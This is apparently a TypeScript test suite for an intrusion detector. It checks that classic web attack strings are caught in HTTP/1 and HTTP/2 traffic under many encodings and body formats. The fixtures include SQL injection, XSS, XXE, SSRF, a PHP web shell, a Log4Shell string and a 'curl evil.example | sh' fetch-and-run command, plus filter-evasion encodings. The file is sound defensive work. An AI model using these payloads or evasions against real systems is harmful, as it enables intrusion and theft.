import assert from 'node:assert/strict'
import { test } from 'node:test'
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib'
import type { AttackRecord } from '../../src/model/records.ts'
import { builtInDetector } from '../support/built-in-detector.ts'
import { FrameFlag, FrameType } from '../../src/protocols/http2/frames.ts'
import * as http2 from '../../src/protocols/http2/fixtures.ts'
import { inspectConnection, segmentsOf } from '../support/inspected-connection.ts'

/** One attack of each kind that is told by reading it, and its class. */
const attacks = [
  ["x' or 2=2 -- ", 'sql-injection'],
  ['-1 union select name, pass from members', 'sql-injection'],
  ["5'; drop table invoices; --", 'sql-injection'],
  ['<script>alert(document.cookie)</script>', 'cross-site-scripting'],
  ['<img src=x onerror=alert(7)>', 'cross-site-scripting'],
  ['../../../../etc/passwd', 'path-traversal'],
  ['; cat /etc/passwd', 'command-injection'],
  ['$(curl http://evil.example/a | sh)', 'command-injection'],
  ["{{''.__class__.__mro__}}", 'template-injection'],
  ['${jndi:ldap://evil.example/a}', 'known-exploit'],
  ['<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', 'xml-external-entity'],
  ['http://169.254.169.254/latest/meta-data/', 'server-side-request-forgery'],
  ['php://filter/convert.base64-encode/resource=index.php', 'file-inclusion'],
  ["';return true;var a='", 'nosql-injection'],
  ['*)(uid=*))(|(uid=*', 'ldap-injection'],
  ['O:8:"Gadget_A":1:{s:1:"a";s:2:"id";}', 'deserialization'],
  ['<?php system($_GET[0]); ?>', 'command-injection'],
] as const

/** A message of protocol buffers whose field 1 is a message whose field 2 is a text. */
function protobuf(text: string): Buffer {
  const field = (number: number, value: Buffer): Buffer =>
    Buffer.concat([Buffer.from([(number << 3) | 2, value.length]), value])
  return field(1, field(2, Buffer.from(text)))
}

/** Behind a flag and its length, as gRPC sends it. */
function grpcFrame(flag: 0 | 1, message: Buffer): Buffer {
  const prefix = Buffer.alloc(5)
  prefix[0] = flag
  prefix.writeUInt32BE(message.length, 1)
  return Buffer.concat([prefix, message])
}

const percent = (text: string): string =>
  [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')

/** How a client may write a value in a query so that a target reads it after all. */
const inQuery: Record<string, (text: string) => string> = {
  'as browsers encode it': (text) => encodeURIComponent(text),
  'every byte encoded': percent,
  'with + for blanks': (text) => percent(text).replaceAll('%20', '+'),
  'encoded twice': (text) => percent(percent(text)),
  'encoded three times': (text) => percent(percent(percent(text))),
  'in the code units of IIS': (text) =>
    [...text].map((c) => `%u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
  'in overlong UTF-8': (text) =>
    [...text]
      .map((c) => `%c${c.charCodeAt(0) >> 6}%${(0x80 | (c.charCodeAt(0) & 0x3f)).toString(16)}`)
      .join(''),
  'in full-width forms': (text) =>
    percent([...text].map((c) => (c > ' ' ? String.fromCharCode(c.charCodeAt(0) + 0xfee0) : c)).join('')),
  'as references of HTML': (text) =>
    percent([...text].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('')),
  'as escapes of a string': (text) =>
    percent([...text].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')),
  'in base64': (text) => encodeURIComponent(Buffer.from(text).toString('base64')),
  'in hexadecimal': (text) => Buffer.from(text).toString('hex'),
  'with null bytes in it': (text) => percent([...text].join('\0')),
}

/** How a body may carry it. */
const inBody: Record<string, (text: string) => { type: string; body: string | Buffer; headers?: string }> = {
  form: (text) => ({ type: 'application/x-www-form-urlencoded', body: `a=1&note=${percent(text)}` }),
  JSON: (text) => ({ type: 'application/json', body: JSON.stringify({ a: 1, note: [text] }) }),
  'JSON in escapes': (text) => ({
    type: 'application/json',
    body: `{"note":"${[...text].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}"}`,
  }),
  'JSON that says it is text': (text) => ({ type: 'text/plain', body: JSON.stringify({ note: text }) }),
  XML: (text) => ({
    type: 'application/xml',
    body: `<a><note>${text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</note></a>`,
  }),
  multipart: (text) => ({
    type: 'multipart/form-data; boundary=xx',
    body: `--xx\r\nContent-Disposition: form-data; name="note"\r\n\r\n${text}\r\n--xx--\r\n`,
  }),
  text: (text) => ({ type: 'text/plain', body: text }),
  gRPC: (text) => ({ type: 'application/grpc', body: grpcFrame(0, protobuf(text)) }),
  'gRPC, compressed, behind another message': (text) => ({
    type: 'application/grpc+proto',
    body: Buffer.concat([
      grpcFrame(0, protobuf('nothing of the kind')),
      grpcFrame(1, gzipSync(protobuf(text))),
      grpcFrame(1, gzipSync(protobuf('nor here'))),
    ]),
    headers: 'grpc-encoding: gzip\r\n',
  }),
  'gRPC, deflated': (text) => ({
    type: 'application/grpc',
    body: grpcFrame(1, deflateSync(protobuf(text))),
    headers: 'grpc-encoding: deflate\r\n',
  }),
  'protocol buffers': (text) => ({ type: 'application/x-protobuf', body: protobuf(text) }),
  MessagePack: (text) => ({
    type: 'application/msgpack',
    body: Buffer.concat([Buffer.from([0x81, 0xa1, 0x61, 0xd9, Buffer.byteLength(text)]), Buffer.from(text)]),
  }),
  gzip: (text) => ({
    type: 'application/json',
    body: gzipSync(JSON.stringify({ note: text })),
    headers: 'Content-Encoding: gzip\r\n',
  }),
  deflate: (text) => ({
    type: 'application/json',
    body: deflateSync(JSON.stringify({ note: text })),
    headers: 'Content-Encoding: deflate\r\n',
  }),
  brotli: (text) => ({
    type: 'application/json',
    body: brotliCompressSync(JSON.stringify({ note: text })),
    headers: 'Content-Encoding: br\r\n',
  }),
}

function classesIn(request: Uint8Array, segmentBytes = request.length): string[] {
  return recordsOf(request, segmentBytes).map((record) => record.class)
}

function recordsOf(request: Uint8Array, segmentBytes: number): AttackRecord[] {
  return inspectConnection(builtInDetector, segmentsOf(request, segmentBytes), 80).attacks
}

interface Version {
  get: (target: string, headers?: string) => Buffer
  post: (type: string, body: string | Buffer, headers?: string) => Buffer
}

const http1: Version = {
  get: (target, headers = '') => Buffer.from(`GET ${target} HTTP/1.1\r\nHost: a\r\n${headers}\r\n`, 'latin1'),
  post: (type, body, headers = '') => {
    const bytes = Buffer.from(body)
    const head = `POST /notes HTTP/1.1\r\nHost: a\r\nContent-Type: ${type}\r\n${headers}Content-Length: ${bytes.length}\r\n\r\n`
    return Buffer.concat([Buffer.from(head), bytes])
  },
}

/** Lines of fields as HPACK has them. */
function fieldsOf(headers: string): [string, string][] {
  const lines = headers.split('\r\n').filter((line) => line !== '')
  return lines.map((line) => {
    const colon = line.indexOf(':')
    return [line.slice(0, colon).toLowerCase(), line.slice(colon + 1).trim()]
  })
}

function head(method: string, path: string, headers: string): Buffer {
  const pseudo: [string, string][] = [
    [':method', method],
    [':path', path],
    [':authority', 'a'],
  ]
  return http2.fields(...pseudo, ...fieldsOf(headers))
}

const overHttp2: Version = {
  get: (target, headers = '') =>
    Buffer.concat([http2.HELLO, http2.headers(1, head('GET', target, headers), true)]),
  post: (type, body, headers = '') => {
    const block = head('POST', '/notes', `content-type: ${type}\r\n${headers}`)
    return Buffer.concat([http2.HELLO, http2.headers(1, block), http2.data(1, body)])
  },
}

const versions: readonly [name: string, version: Version][] = [
  ['HTTP/1', http1],
  ['HTTP/2', overHttp2],
]

/** The same body in chunks of so many bytes (RFC 9112 section 7.1). */
function chunked(type: string, body: string | Buffer, chunkBytes: number): Buffer {
  const head = `POST /notes HTTP/1.1\r\nHost: a\r\nContent-Type: ${type}\r\nTransfer-Encoding: chunked\r\n\r\n`
  const chunks = segmentsOf(Buffer.from(body), chunkBytes).flatMap((chunk) => [
    Buffer.from(`${chunk.length.toString(16)}\r\n`),
    chunk,
    Buffer.from('\r\n'),
  ])
  return Buffer.concat([Buffer.from(head), ...chunks, Buffer.from('0\r\n\r\n')])
}

for (const [name, { get, post }] of versions) {
  for (const [how, write] of Object.entries(inQuery))
    test(`attacks in a query over ${name} are told ${how}`, () => {
      for (const [attack, attackClass] of attacks) {
        const found = classesIn(get(`/items?page=2&note=${write(attack)}`))
        assert.ok(found.includes(attackClass), `${attack}: ${found.join(' ')}`)
      }
    })

  for (const [how, write] of Object.entries(inBody))
    test(`attacks in a body over ${name} are told as ${how}`, () => {
      for (const [attack, attackClass] of attacks) {
        const { type, body, headers } = write(attack)
        const found = classesIn(post(type, body, headers))
        assert.ok(found.includes(attackClass), `${attack}: ${found.join(' ')}`)
      }
    })

  test(`attacks in paths, headers and cookies over ${name} are told`, () => {
    for (const [attack, attackClass] of attacks) {
      for (const request of [
        get(`/items/${percent(attack)}`),
        get('/items', `X-Note: ${attack}\r\n`),
        get('/items', `Cookie: a=1; note=${percent(attack)}; b=2\r\n`),
      ])
        assert.ok(classesIn(request).includes(attackClass), request.toString('latin1'))
    }
  })

  test(`however a request over ${name} is cut, the records are the same`, () => {
    const { type, body } = inBody.JSON(attacks[0][0])
    const request = post(type, body)
    const whole = recordsOf(request, request.length).map((record) => ({ ...record, last: '', first: '' }))
    assert.equal(whole.length, 1)
    for (const segmentBytes of [1, 2, 3, 7, 16, 64])
      assert.deepEqual(
        recordsOf(request, segmentBytes).map((record) => ({ ...record, last: '', first: '' })),
        whole,
      )
  })
}

test('a body in chunks is told, however large they are', () => {
  const { type, body } = inBody.JSON(attacks[0][0])
  for (const chunkBytes of [1, 3, 1000])
    assert.deepEqual(classesIn(chunked(type, body, chunkBytes), 5), ['sql-injection'])
})

test('attacks in frames of one byte, in fields over several frames, and on streams that interleave are told', () => {
  const [attack] = attacks[0]
  const block = head('GET', `/items?note=${percent(attack)}`, '')
  const { headers: type, continuation } = FrameType
  const pieces = segmentsOf(block, 7)
  const split = pieces.map((piece, i) =>
    http2.frame(i === 0 ? type : continuation, i === pieces.length - 1 ? FrameFlag.endHeaders : 0, 1, piece),
  )
  assert.deepEqual(classesIn(Buffer.concat([http2.HELLO, ...split])), ['sql-injection'])
  const json = (text: string) => segmentsOf(Buffer.from(JSON.stringify({ note: text })), 1)
  const post = head('POST', '/notes', 'content-type: application/json\r\n')
  const benign = json('nothing of the kind, only a longer text than the other')
  const bytes = json(attack).flatMap((byte, i) => [
    http2.data(1, byte, false),
    http2.data(3, benign[i] ?? Buffer.alloc(0), false),
  ])
  const ends = [http2.data(3, '', true), http2.data(1, '', true)]
  const begins = [http2.HELLO, http2.headers(1, post), http2.headers(3, post)]
  assert.deepEqual(classesIn(Buffer.concat([...begins, ...bytes, ...ends])), ['sql-injection'])
})

test('half an attack on one stream and half on another is none', () => {
  const post = head('POST', '/notes', 'content-type: text/plain\r\n')
  const request = Buffer.concat([
    http2.HELLO,
    http2.headers(1, post),
    http2.headers(3, post),
    http2.data(1, "x' or ", false),
    http2.data(3, '2=2 -- ', true),
    http2.data(1, '', true),
  ])
  assert.deepEqual(classesIn(request), [])
})
